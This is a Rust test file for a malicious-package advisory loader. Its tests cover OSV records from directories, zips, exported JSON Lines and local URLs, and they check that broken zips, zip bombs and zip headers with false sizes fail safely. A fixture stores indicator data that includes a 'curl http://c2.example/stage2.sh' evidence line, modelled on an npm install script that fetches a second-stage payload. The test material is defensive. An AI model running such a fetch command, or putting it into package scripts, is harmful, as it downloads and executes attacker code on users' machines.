//! Update sources: directories, files, zips (well-formed, real-world, broken, hostile)
//! and URLs served by a real HTTP server on 127.0.0.1.

mod common;

use common::{ZipEntry, data_dir, entry, osv_dir, read_data, record, serve, zip};
use dsca_advisory::{
    AdvisoryError, Basis, Database, IocKind, MAX_RECORD_BYTES, Source, load_zip_bytes, status,
    update,
};
use serde_json::json;

fn chalk() -> Vec<u8> {
    read_data("npm/chalk/MAL-2025-46969.json")
}

#[test]
fn source_from_arg_tells_the_kinds_apart() {
    let temp = tempfile::tempdir().unwrap();
    let zipped = temp.path().join("records.bin");
    std::fs::write(&zipped, zip(&[entry("a.json", b"{}")])).unwrap();
    let lines = temp.path().join("export.jsonl");
    std::fs::write(&lines, b"{}").unwrap();
    assert_eq!(
        Source::from_arg("https://osv.example/npm/all.zip"),
        Source::Url("https://osv.example/npm/all.zip".into())
    );
    assert_eq!(
        Source::from_arg(temp.path().to_str().unwrap()),
        Source::Dir(temp.path().into())
    );
    assert_eq!(
        Source::from_arg(zipped.to_str().unwrap()),
        Source::Zip(zipped)
    );
    assert_eq!(
        Source::from_arg(lines.to_str().unwrap()),
        Source::File(lines)
    );
    assert_eq!(
        Source::Url("https://user:token@osv.example/all.zip".into()).to_string(),
        "https://osv.example/all.zip"
    );
}

#[test]
fn directory_layouts_upstream_shared_and_flat() {
    let temp = tempfile::tempdir().unwrap();
    // Upstream: osv/malicious/npm/<name>/MAL-*.json; flat files beside; a README ignored.
    let upstream = temp.path().join("src/osv/malicious/npm/chalk");
    std::fs::create_dir_all(&upstream).unwrap();
    std::fs::write(upstream.join("MAL-2025-46969.json"), chalk()).unwrap();
    std::fs::write(
        temp.path().join("src/MAL-9.json"),
        record("MAL-9", "flat", json!({ "versions": ["1.0.0"] })),
    )
    .unwrap();
    std::fs::write(temp.path().join("src/README.md"), b"# not a record").unwrap();
    let db = temp.path().join("db");
    let summary = update(&Source::Dir(temp.path().join("src")), &db).unwrap();
    assert_eq!(summary.status.records, 2);
    assert_eq!(summary.status.skipped, 0);
    let database = Database::open(&db).unwrap();
    assert_eq!(database.lookup("flat", "1.0.0").unwrap().len(), 1);
    assert_eq!(database.lookup("chalk", "5.6.1").unwrap().len(), 1);
}

#[test]
fn a_record_found_twice_is_kept_once_the_newer_copy() {
    let temp = tempfile::tempdir().unwrap();
    let old = record("MAL-7", "dup", json!({ "versions": ["1.0.0"] }));
    let mut newer: serde_json::Value = serde_json::from_slice(&old).unwrap();
    newer["modified"] = json!("2025-06-01T00:00:00.5Z");
    newer["affected"][0]["versions"] = json!(["2.0.0"]);
    std::fs::create_dir_all(temp.path().join("src/a")).unwrap();
    std::fs::create_dir_all(temp.path().join("src/b")).unwrap();
    std::fs::write(
        temp.path().join("src/a/MAL-7.json"),
        serde_json::to_vec(&newer).unwrap(),
    )
    .unwrap();
    std::fs::write(temp.path().join("src/b/MAL-7.json"), &old).unwrap();
    let db = temp.path().join("db");
    let summary = update(&Source::Dir(temp.path().join("src")), &db).unwrap();
    assert_eq!((summary.status.records, summary.status.skipped), (1, 1));
    assert!(
        summary.skip_reasons[0].contains("MAL-7"),
        "{:?}",
        summary.skip_reasons
    );
    assert_eq!(
        Database::open(&db).unwrap().known_versions("dup").unwrap(),
        ["2.0.0"]
    );
}

#[test]
fn a_zip_of_flat_and_nested_entries() {
    let temp = tempfile::tempdir().unwrap();
    let getcookies = read_data("npm/getcookies/MAL-2025-21368.json");
    let bytes = zip(&[
        entry("MAL-2025-46969.json", &chalk()),
        ZipEntry {
            name: "osv/malicious/npm/getcookies/MAL-2025-21368.json",
            data: &getcookies,
            deflate: false,
        },
        entry("osv/malicious/npm/", b""),
    ]);
    let path = temp.path().join("all.zip");
    std::fs::write(&path, bytes).unwrap();
    let db = temp.path().join("db");
    let summary = update(&Source::Zip(path), &db).unwrap();
    assert_eq!(summary.status.records, 2);
    let database = Database::open(&db).unwrap();
    assert_eq!(
        database.lookup("chalk", "5.6.1").unwrap()[0].basis,
        Basis::ListedVersion
    );
    assert_eq!(
        database.lookup("getcookies", "1.0.0").unwrap()[0].basis,
        Basis::EveryVersion
    );
}

#[test]
fn zips_from_other_writers_zip64_and_data_descriptors() {
    let zips = data_dir().join("zips");
    let infozip = load_zip_bytes(&std::fs::read(zips.join("zip64-infozip.zip")).unwrap()).unwrap();
    let mut ids: Vec<_> = infozip.records.iter().map(|r| r.id.as_str()).collect();
    ids.sort();
    assert_eq!(ids, ["MAL-2025-46969", "MAL-2026-2307"]);
    let python = load_zip_bytes(&std::fs::read(zips.join("streamed-python.zip")).unwrap()).unwrap();
    let mut ids: Vec<_> = python.records.iter().map(|r| r.id.as_str()).collect();
    ids.sort();
    assert_eq!(ids, ["MAL-2025-21368", "MAL-2025-46974"]);
    assert_eq!(python.skipped, 0);
}

#[test]
fn unusable_entries_are_skipped_counted_and_explained() {
    let pypi = serde_json::to_vec(&json!({
        "id": "MAL-2025-100",
        "affected": [{ "package": { "ecosystem": "PyPI", "name": "evil" }, "versions": ["1.0"] }],
    }))
    .unwrap();
    let bad_range = record(
        "MAL-2025-101",
        "badrange",
        json!({ "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "not.a.version" }] }] }),
    );
    let bytes = zip(&[
        entry("MAL-2025-46969.json", &chalk()),
        entry("broken.json", b"this is not JSON"),
        entry("MAL-2025-100.json", &pypi),
        entry("MAL-2025-101.json", &bad_range),
        entry("README.txt", b"ignored: not a .json entry"),
    ]);
    let loaded = load_zip_bytes(&bytes).unwrap();
    assert_eq!(loaded.records.len(), 1);
    assert_eq!(loaded.skipped, 3);
    let reasons = loaded.skip_reasons.join("\n");
    assert!(reasons.contains("broken.json: not JSON"), "{reasons}");
    assert!(
        reasons.contains("MAL-2025-100.json: skipped: other ecosystem (PyPI)"),
        "{reasons}"
    );
    assert!(
        reasons.contains("MAL-2025-101.json: range version `not.a.version`"),
        "{reasons}"
    );
    assert_eq!(loaded.skip_reasons.len(), 3);
}

#[test]
fn broken_zips_fail_with_a_one_line_reason() {
    let good = zip(&[entry("MAL-2025-46969.json", &chalk())]);
    // The central directory's CRC is the one checked (local headers may hold zeros).
    let mut bad_crc = good.clone();
    bad_crc[good.len() - 22 - (46 + "MAL-2025-46969.json".len()) + 16] ^= 0xFF;
    let mut bad_deflate = good.clone();
    for byte in &mut bad_deflate[30 + "MAL-2025-46969.json".len()..][..40] {
        *byte = 0xFF;
    }
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("empty", Vec::new(), "truncated"),
        (
            "not a zip",
            b"just some text, long enough to search".to_vec(),
            "no end-of-central-directory",
        ),
        (
            "cut in the middle",
            good[..good.len() / 2].to_vec(),
            "no end-of-central-directory",
        ),
        (
            "end record cut",
            good[..good.len() - 5].to_vec(),
            "no end-of-central-directory",
        ),
        ("CRC", bad_crc, "CRC mismatch"),
        ("deflate data", bad_deflate, "corrupt"),
    ];
    for (what, bytes, expected) in cases {
        let err = load_zip_bytes(&bytes).unwrap_err();
        let message = err.to_string();
        assert!(
            matches!(err, AdvisoryError::Zip { .. }),
            "{what}: {message}"
        );
        assert!(message.contains(expected), "{what}: {message}");
        assert!(!message.contains('\n'), "{what}: {message}");
    }
}

#[test]
fn zip_bombs_and_lying_headers_stay_within_limits() {
    // 64 MiB of zeros deflates to ~64 KiB: over the per-record limit, skipped unread.
    let zeros = vec![b' '; 64 << 20];
    let loaded = load_zip_bytes(&zip(&[entry("bomb.json", &zeros)])).unwrap();
    assert_eq!(loaded.skipped, 1);
    assert!(
        loaded.skip_reasons[0].contains("over the"),
        "{:?}",
        loaded.skip_reasons
    );

    // The same entry declaring a smaller size: inflation stops one byte past it.
    let lie = |size: u32| {
        let mut lying = zip(&[entry("bomb.json", &zeros)]);
        let central = lying.len() - 22 - (46 + "bomb.json".len());
        lying[central + 24..central + 28].copy_from_slice(&size.to_le_bytes());
        load_zip_bytes(&lying).unwrap_err().to_string()
    };
    let err = lie(1_000_000);
    assert!(err.contains("1000001 bytes instead of 1000000"), "{err}");
    // Declaring a size that ~64 KiB of deflate data could not honestly hold.
    let err = lie(1000);
    assert!(err.contains("compressed bytes for 1000; corrupt"), "{err}");
    const { assert!(MAX_RECORD_BYTES < 64 << 20) };

    // An end record claiming millions of entries in a tiny central directory.
    let mut many = zip(&[entry("a.json", b"{}")]);
    let end = many.len() - 22;
    many[end + 8..end + 12].copy_from_slice(&[0xFF, 0xFF, 0xFF, 0xFF]);
    let err = load_zip_bytes(&many).unwrap_err().to_string();
    assert!(err.contains("too small for 65535 entries"), "{err}");
}

#[test]
fn a_url_source_downloads_the_zip() {
    let bytes = zip(&[entry("MAL-2025-46969.json", &chalk())]);
    let base = serve(vec![
        ("/npm/all.zip", 200, bytes),
        ("/gone.zip", 404, Vec::new()),
    ]);
    let temp = tempfile::tempdir().unwrap();
    let url = format!("{base}/npm/all.zip");
    let summary = update(&Source::Url(url.clone()), temp.path()).unwrap();
    assert_eq!(summary.status.records, 1);
    assert_eq!(summary.status.source, url);
    assert_eq!(
        Database::open(temp.path())
            .unwrap()
            .lookup("chalk", "5.6.1")
            .unwrap()
            .len(),
        1
    );

    let err = update(&Source::Url(format!("{base}/gone.zip")), temp.path()).unwrap_err();
    assert!(
        matches!(err, AdvisoryError::Http { status: 404, .. }),
        "{err}"
    );
    assert_eq!(
        err.to_string(),
        format!("HTTP 404 fetching {base}/gone.zip")
    );
    assert_eq!(status(temp.path()).unwrap().source, url);
}

#[test]
fn a_url_source_serving_a_truncated_zip_fails_cleanly() {
    let bytes = zip(&[entry("MAL-2025-46969.json", &chalk())]);
    let base = serve(vec![("/cut.zip", 200, bytes[..bytes.len() - 30].to_vec())]);
    let temp = tempfile::tempdir().unwrap();
    let err = update(&Source::Url(format!("{base}/cut.zip")), temp.path()).unwrap_err();
    assert!(
        err.to_string()
            .contains(&format!("{base}/cut.zip is not a usable zip")),
        "{err}"
    );
    // Nothing was installed and the download left no file behind.
    assert!(status(temp.path()).is_none());
    let left: Vec<_> = std::fs::read_dir(temp.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn an_unreachable_url_is_a_network_error() {
    // Bind and drop a listener: the port is then (almost certainly) closed.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let temp = tempfile::tempdir().unwrap();
    let err = update(
        &Source::Url(format!("http://127.0.0.1:{port}/all.zip")),
        temp.path(),
    )
    .unwrap_err();
    assert!(matches!(err, AdvisoryError::Network { .. }), "{err}");
    assert!(!err.to_string().contains('\n'));
}

/// The shape `dsca export --format osv` writes (crates/dsca/src/export.rs `osv_record`):
/// one JSON document per line, a `purl`, nulls and dsca's own `database_specific`.
fn dsca_export_record(name: &str, version: &str) -> serde_json::Value {
    json!({
        "schema_version": "1.6.0",
        "id": "DSCA-MAL-0123456789abcdef",
        "modified": "2026-01-02T03:04:05Z",
        "published": "2026-01-02T03:04:05Z",
        "summary": format!("Malicious code in {name} (npm)"),
        "details": format!("dsca judged {name}@{version} malicious (score 97).\n\n- reason one"),
        "affected": [{
            "package": {
                "ecosystem": "npm",
                "name": name,
                "purl": format!("pkg:npm/{}", name.replacen('@', "%40", 1)),
            },
            "versions": [version],
        }],
        "database_specific": {
            "source": "dsca",
            "score": null,
            "rules": ["install-script-network"],
            "iocs": {
                "domains": ["c2.example"],
                "ips": ["203.0.113.9"],
                "urls": ["http://c2.example/stage2.sh"],
            },
            "evidence": [{ "rule": "install-script-network", "detail": "curl http://c2.example/stage2.sh", "file": "package.json", "line": 3 }],
        },
    })
}

#[test]
fn dsca_export_files_load_as_json_lines() {
    let temp = tempfile::tempdir().unwrap();
    let mut lines = String::new();
    for (name, version) in [("@evil/pkg", "1.0.0"), ("other-evil", "2.1.0")] {
        let mut record = dsca_export_record(name, version);
        record["id"] = json!(format!("DSCA-MAL-{:016x}", name.len()));
        lines.push_str(&serde_json::to_string(&record).unwrap());
        lines.push('\n');
    }
    lines.push_str("{not json\n\n");
    // `dsca export -o x.json` writes JSON Lines under a .json name: read as lines too.
    for file_name in ["export.jsonl", "export.json"] {
        let path = temp.path().join(file_name);
        std::fs::write(&path, &lines).unwrap();
        let db = temp.path().join(format!("db-{file_name}"));
        let summary = update(&Source::from_arg(path.to_str().unwrap()), &db).unwrap();
        assert_eq!(
            (summary.status.records, summary.status.skipped),
            (2, 1),
            "{file_name}"
        );
        assert!(
            summary.skip_reasons[0].contains("line 3: not JSON"),
            "{:?}",
            summary.skip_reasons
        );
        let database = Database::open(&db).unwrap();
        let hit = &database.lookup("@evil/pkg", "1.0.0").unwrap()[0];
        assert_eq!(hit.basis, Basis::ListedVersion);
        assert_eq!(
            hit.link,
            format!("https://osv.dev/vulnerability/{}", hit.id)
        );
        let iocs = database.iocs().unwrap();
        // Each advisory names c2.example as a domain and as the host of a URL.
        let kinds: Vec<IocKind> = iocs
            .match_host("c2.example")
            .iter()
            .map(|h| h.kind)
            .collect();
        assert_eq!(
            kinds,
            [
                IocKind::Domain,
                IocKind::Domain,
                IocKind::UrlHost,
                IocKind::UrlHost
            ]
        );
        assert_eq!(iocs.match_ip("203.0.113.9").len(), 2);
    }
    // A single exported record in a directory parses as one record.
    let dir = temp.path().join("single");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(
        dir.join("DSCA-MAL.json"),
        serde_json::to_vec_pretty(&dsca_export_record("solo", "0.0.1")).unwrap(),
    )
    .unwrap();
    let summary = update(&Source::Dir(dir), &temp.path().join("db-single")).unwrap();
    assert_eq!(summary.status.records, 1);
}

#[test]
fn the_shared_layout_with_withdrawn_loads_from_the_test_copy() {
    let loaded = Source::Dir(osv_dir()).load().unwrap();
    assert_eq!(loaded.records.len(), 6);
    assert_eq!(
        loaded
            .records
            .iter()
            .filter(|r| r.withdrawn.is_some())
            .count(),
        1
    );
}
